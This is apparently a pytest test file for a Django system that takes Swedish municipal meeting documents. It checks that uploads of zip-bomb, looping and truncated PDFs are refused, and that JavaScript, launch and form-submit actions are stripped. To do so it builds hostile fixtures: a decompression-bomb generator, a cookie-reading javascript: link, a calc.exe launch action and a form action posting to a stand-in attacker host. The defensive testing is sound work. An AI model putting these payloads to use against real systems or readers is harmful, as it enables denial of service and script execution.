"""Hostile and broken PDFs, and a broker that is down: an upload is refused with a Swedish message naming the file,
or stored without what a PDF reader would run; a file that cannot be read is shown to the secretary and blocks only
its own publication; nothing answers 500 and nothing is stored twice."""

import functools
import hashlib
import io
import tracemalloc
import zlib

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from meetings.models import Document, Meeting
from meetings.pdf import check_upload
from meetings.tasks import document_extract_text
from tests.factories import AgendaItemFactory, MeetingFactory, make_pdf, secretary_of

pytestmark = pytest.mark.django_db

MB = 1024 * 1024
BOMB_REFUSED = "Filen ”Bilaga 1” packas upp till mer än 100 MB i en enda del"
BOMB_REASON = "En del av filen packas upp till mer än 100 MB."


# --- Building PDFs by hand: cheap, and as hostile as we like ----------------------------------------------------------


def build_pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given objects (object 1 is the catalog), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def flate(size: int, fill: bytes = b" ") -> bytes:
    """`size` bytes of `fill`, zlib-compressed piece by piece (run-length strategy: fast, ~1000:1), never all in
    memory at once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 15, 9, zlib.Z_RLE)
    piece = fill * MB
    return b"".join(packer.compress(piece) for _ in range(size // MB)) + packer.flush()


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page_pdf(contents: bytes) -> bytes:
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> "
            b"/Contents 4 0 R >>",
            contents,
            FONT,
        ]
    )


@functools.cache
def zip_bomb() -> bytes:
    """The file of the issue: one content stream of 300 MB of spaces, FlateDecode, about 300 kB."""
    return one_page_pdf(stream(flate(300 * MB), b"/Filter /FlateDecode"))


def pages_pdf(count: int) -> bytes:
    """`count` pages sharing one small content stream: a few dozen bytes a page."""
    kids = b" ".join(b"%d 0 R" % (5 + n) for n in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 3 0 R >>"
    )
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            stream(b"BT /F1 12 Tf 72 720 Td (Sida) Tj ET"),
            FONT,
            *([page] * count),
        ]
    )


def action(kind: str, **entries) -> DictionaryObject:
    found = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        found[NameObject(f"/{key}")] = TextStringObject(value)
    return found


def link(to: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 100, 20)]),
            NameObject("/A"): to,
        }
    )


@functools.cache
def javascript_pdf() -> bytes:
    """A real PDF with what the issue found (/OpenAction JavaScript) and its relatives: a page's /AA, a document
    script in /Names, a javascript: link, a launch link, a form that sends; and a plain https link, which stays."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf("Budget för trygghetsarbetet"))))
    writer._root_object[NameObject("/OpenAction")] = action("/JavaScript", JS="app.alert('opened');")
    script = writer._add_object(action("/JavaScript", JS="this.print({bUI: false});"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("skriv-ut"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/JavaScript", JS="app.beep(0);")})
    page[NameObject("/Annots")] = ArrayObject(
        [
            writer._add_object(link(action("/URI", URI="javascript:alert(document.cookie)"))),
            writer._add_object(link(action("/Launch", F="C:\\Windows\\System32\\calc.exe"))),
            writer._add_object(link(action("/SubmitForm", F="https://angripare.example/samla"))),
            writer._add_object(link(action("/URI", URI="https://www.orebro.se/"))),
        ]
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- Fixtures and helpers ---------------------------------------------------------------------------------------------


@pytest.fixture
def meeting(client):
    meeting = MeetingFactory()
    AgendaItemFactory(meeting=meeting, title="Budget")
    client.force_login(secretary_of(meeting.body))
    return meeting


def upload(client, meeting, content: bytes, *, title="Bilaga 1", published=True, follow=False):
    data = {"title": title, "kind": "bilaga", "file": SimpleUploadedFile("bilaga.pdf", content)}
    if published:
        data["is_published"] = "on"
    return client.post(reverse("staff:document_create", kwargs={"pk": meeting.pk}), data, follow=follow)


def publish(client, meeting):
    return client.post(reverse("staff:agenda_publish", kwargs={"pk": meeting.pk}))


def stored_earlier(meeting, content: bytes, *, title="Bilaga 1", is_published=True) -> Document:
    """A document stored before uploads were checked this way (the row and file written directly)."""
    document = Document(
        meeting=meeting,
        title=title,
        kind=Document.Kind.ATTACHMENT,
        size=len(content),
        pages=1,
        sha256=hashlib.sha256(content).hexdigest(),
        is_published=is_published,
    )
    document.file.save("x.pdf", ContentFile(content), save=False)
    document.save()
    return document


# --- The zip bomb -----------------------------------------------------------------------------------------------------


def test_the_zip_bomb_is_the_one_of_the_issue():
    assert 250_000 < len(zip_bomb()) < 350_000


def test_a_zip_bomb_is_refused_on_upload_naming_the_file_and_the_limit(client, meeting):
    response = upload(client, meeting, zip_bomb())
    assert response.status_code == 200
    assert BOMB_REFUSED in response.content.decode()
    assert Document.objects.count() == 0


def test_a_zip_bomb_is_refused_on_upload_under_a_published_agenda(client, meeting):
    Meeting.objects.filter(pk=meeting.pk).update(agenda_published_at="2024-01-01T10:00:00Z")
    response = upload(client, meeting, zip_bomb())
    assert response.status_code == 200
    assert BOMB_REFUSED in response.content.decode()
    assert Document.objects.count() == 0


def test_checking_a_zip_bomb_unpacks_it_piece_by_piece(settings):
    zip_bomb()  # built outside the measurement
    tracemalloc.start()
    try:
        with pytest.raises(ValueError, match="packas upp till mer än 100 MB"):
            check_upload(zip_bomb())
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * MB  # pypdf alone would hold 75 MB at once before giving up


def test_after_a_refused_bomb_the_agenda_is_published(client, meeting):
    upload(client, meeting, zip_bomb())
    response = publish(client, meeting)
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.has_agenda


def test_many_parts_that_together_unpack_to_too_much_are_refused(client, meeting, settings):
    settings.DOCUMENT_PDF_MAX_TOTAL_BYTES = 3 * MB
    parts = [stream(flate(2 * MB), b"/Filter /FlateDecode") for _ in range(2)]
    content = build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 6 0 R >> >> "
            b"/Contents [4 0 R 5 0 R] >>",
            *parts,
            FONT,
        ]
    )
    response = upload(client, meeting, content)
    assert "Filen ”Bilaga 1” packas upp till mer än 3 MB sammanlagt" in response.content.decode()
    assert Document.objects.count() == 0


# --- A file stored before the checks, whose reading fails ------------------------------------------------------------


def test_a_failed_reading_is_recorded_and_shown_beside_the_document(client, meeting, eager_celery):
    document = stored_earlier(meeting, zip_bomb())
    assert document_extract_text(document.pk) is None  # recorded, not raised (a retry would fail the same way)
    document.refresh_from_db()
    assert document.reading_error == BOMB_REASON and document.text_extracted_at is None
    page = client.get(reverse("staff:meeting_detail", kwargs={"pk": meeting.pk})).content.decode()
    assert "Kan inte läsas" in page and BOMB_REASON in page


def test_publishing_refuses_naming_the_unreadable_document_that_would_become_public(client, meeting):
    stored_earlier(meeting, zip_bomb())
    response = publish(client, meeting)
    assert response.status_code == 200
    assert f"Handlingen ”Bilaga 1” kan inte läsas: {BOMB_REASON}" in response.content.decode()
    meeting.refresh_from_db()
    assert not meeting.has_agenda
    # Read outside the publication's transaction: the reason is kept for the meeting page.
    assert Document.objects.get().reading_error == BOMB_REASON


def test_the_page_for_confirming_unread_pages_says_the_file_cannot_be_read(client, meeting):
    document = stored_earlier(meeting, zip_bomb())
    url = reverse("staff:document_scan_confirm", kwargs={"pk": document.pk})
    response = client.get(url)
    assert response.status_code == 200
    assert f"Filen kan inte läsas: {BOMB_REASON}" in response.content.decode()
    assert client.post(url, {"confirmed": "on"}).status_code == 200
    assert Document.objects.get().unread_pages_confirmed_at is None


@pytest.mark.parametrize("hidden", ["unpublished", "secret_item"])
def test_an_unreadable_document_that_stays_hidden_does_not_block_publishing(client, meeting, hidden):
    if hidden == "unpublished":
        stored_earlier(meeting, zip_bomb(), is_published=False)
    else:
        document = stored_earlier(meeting, zip_bomb())
        secret = AgendaItemFactory(meeting=meeting, title="Sekretess", is_public=False)
        Document.objects.filter(pk=document.pk).update(meeting=None, agenda_item=secret)
    response = publish(client, meeting)
    assert response.status_code == 302
    meeting.refresh_from_db()
    assert meeting.has_agenda


def test_reading_stops_when_the_time_is_up(meeting, settings, eager_celery):
    settings.DOCUMENT_PDF_MAX_SECONDS = 0
    document = stored_earlier(meeting, make_pdf("Två sidor"))
    document_extract_text(document.pk)
    document.refresh_from_db()
    assert document.reading_error == "Det tog mer än 0 minuter att läsa filen."


# --- Broken and oversized files ---------------------------------------------------------------------------------------


def test_a_page_tree_that_loops_is_refused_as_broken(client, meeting):
    content = build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",  # the tree contains itself
        ]
    )
    response = upload(client, meeting, content)
    assert response.status_code == 200
    assert "Filen ”Bilaga 1” kan inte användas: PDF-filen är" in response.content.decode()
    assert Document.objects.count() == 0


def test_a_truncated_pdf_is_refused_as_broken(client, meeting):
    content = javascript_pdf()
    response = upload(client, meeting, content[: len(content) // 2])
    assert "Filen ”Bilaga 1” kan inte användas: PDF-filen är trasig och kan inte läsas." in response.content.decode()
    assert Document.objects.count() == 0


def test_a_pdf_with_more_pages_than_the_limit_is_refused(client, meeting):
    response = upload(client, meeting, pages_pdf(2001))
    assert response.status_code == 200
    assert "Filen ”Bilaga 1” har fler än 2000 sidor" in response.content.decode()
    assert Document.objects.count() == 0


def test_a_pdf_at_the_page_limit_is_stored(client, meeting):
    assert upload(client, meeting, pages_pdf(2000)).status_code == 302
    assert Document.objects.get().pages == 2000


# --- JavaScript and launch actions ------------------------------------------------------------------------------------


def test_javascript_and_launch_actions_are_removed_on_upload_and_the_secretary_told(client, meeting):
    response = upload(client, meeting, javascript_pdf(), follow=True)
    page = response.content.decode()
    assert "Ur filen ”Bilaga 1” togs bort: JavaScript (program som PDF-läsaren kör)" in page
    assert "åtgärder som startar ett program" in page and "formuläråtgärder som skickar" in page
    assert "länkar till adresser som inte är webb- eller e-postadresser" in page

    document = Document.objects.get()
    stored = document.file.open("rb").read()
    assert document.sha256 == hashlib.sha256(stored).hexdigest() and document.size == len(stored)
    reader = PdfReader(io.BytesIO(stored))
    root = reader.trailer["/Root"]
    assert "/OpenAction" not in root and "/JavaScript" not in root.get("/Names", {})
    page_one = reader.pages[0]
    assert "/AA" not in page_one
    actions = [annotation.get_object().get("/A") for annotation in page_one["/Annots"]]
    assert [a.get_object()["/URI"] for a in actions if a is not None] == ["https://www.orebro.se/"]
    assert b"/JS" not in stored and b"calc" not in stored
    assert "Budget för trygghetsarbetet" in page_one.extract_text()  # what the page shows is untouched


def test_citizens_download_the_file_without_its_javascript(client, meeting):
    upload(client, meeting, javascript_pdf())
    Meeting.objects.filter(pk=meeting.pk).update(agenda_published_at="2024-01-01T10:00:00Z")
    document = Document.objects.get()
    client.logout()
    response = client.get(document.get_absolute_url())
    assert response.status_code == 200
    served = b"".join(response.streaming_content)
    assert hashlib.sha256(served).hexdigest() == document.sha256
    assert b"/JavaScript" not in served and b"/Launch" not in served


def test_a_clean_pdf_is_stored_byte_for_byte(client, meeting):
    content = make_pdf("Ren fil")
    response = upload(client, meeting, content, follow=True)
    assert "togs bort" not in response.content.decode()
    assert Document.objects.get().file.open("rb").read() == content


def test_documents_stored_earlier_are_listed_and_stripped_by_the_command(meeting):
    document = stored_earlier(meeting, javascript_pdf())
    out = io.StringIO()
    call_command("document_files_check", stdout=out)
    assert f"{document.pk} ”Bilaga 1”: JavaScript" in out.getvalue()
    assert b"/JS" in Document.objects.get().file.open("rb").read()  # only listed

    call_command("document_files_check", "--strip", stdout=io.StringIO())
    document.refresh_from_db()
    stored = document.file.open("rb").read()
    assert b"/JS" not in stored and document.sha256 == hashlib.sha256(stored).hexdigest()
    assert document.history.first().history_change_reason.startswith("Aktivt innehåll")


# --- The same upload twice --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("build", [lambda: make_pdf("Samma fil"), javascript_pdf], ids=["clean", "javascript"])
def test_the_same_file_twice_under_the_same_meeting_is_refused_naming_the_first(client, meeting, build):
    assert upload(client, meeting, build()).status_code == 302
    response = upload(client, meeting, build(), title="Bilaga 1 igen")
    assert response.status_code == 200
    assert "Filen ”Bilaga 1 igen” finns redan bland handlingarna här, som ”Bilaga 1”" in response.content.decode()
    assert Document.objects.count() == 1


def test_the_same_file_under_another_item_is_stored(client, meeting):
    content = make_pdf("Samma fil")
    assert upload(client, meeting, content).status_code == 302
    other = meeting.items.get()
    response = client.post(
        reverse("staff:document_create", kwargs={"pk": meeting.pk}),
        {"title": "Bilaga", "kind": "bilaga", "agenda_item": other.pk, "file": SimpleUploadedFile("b.pdf", content)},
    )
    assert response.status_code == 302
    assert Document.objects.count() == 2


# --- The broker is down -----------------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_broker_down_on_upload_stores_once_and_tells_the_secretary(client, broker_down):
    meeting = MeetingFactory()
    client.force_login(secretary_of(meeting.body))
    content = make_pdf("Förskola i Vivalla")

    response = upload(client, meeting, content, published=False, follow=True)
    assert response.status_code == 200
    page = response.content.decode()
    assert "Handlingen ”Bilaga 1” är sparad, men bakgrundstjänsten kan inte nås just nu" in page
    assert "Den läses och kontrolleras när handlingen publiceras" in page
    document = Document.objects.get()
    assert document.text_extracted_at is None

    retry = upload(client, meeting, content)
    assert retry.status_code == 200
    assert "finns redan bland handlingarna här, som ”Bilaga 1”" in retry.content.decode()
    assert Document.objects.count() == 1


@pytest.mark.django_db(transaction=True)
def test_broker_down_on_agenda_publish_leaves_it_unpublished_and_says_so(client, broker_down):
    meeting = MeetingFactory()
    AgendaItemFactory(meeting=meeting, title="Budget")
    client.force_login(secretary_of(meeting.body))

    response = publish(client, meeting)
    assert response.status_code == 200
    assert "Ärendelistan är inte publicerad: bakgrundstjänsten som skickar mejl" in response.content.decode()
    meeting.refresh_from_db()
    assert not meeting.has_agenda


@pytest.mark.django_db(transaction=True)
def test_a_document_not_read_for_want_of_a_broker_is_read_when_the_agenda_is_published(client, broker_down):
    meeting = MeetingFactory()
    client.force_login(secretary_of(meeting.body))
    upload(client, meeting, make_pdf("Förskola i Vivalla"))
    broker_down.conf.task_always_eager = True  # the broker is back (eager: the alert task runs here)

    assert publish(client, meeting).status_code == 302
    document = Document.objects.get()
    assert "Förskola i Vivalla" in document.text
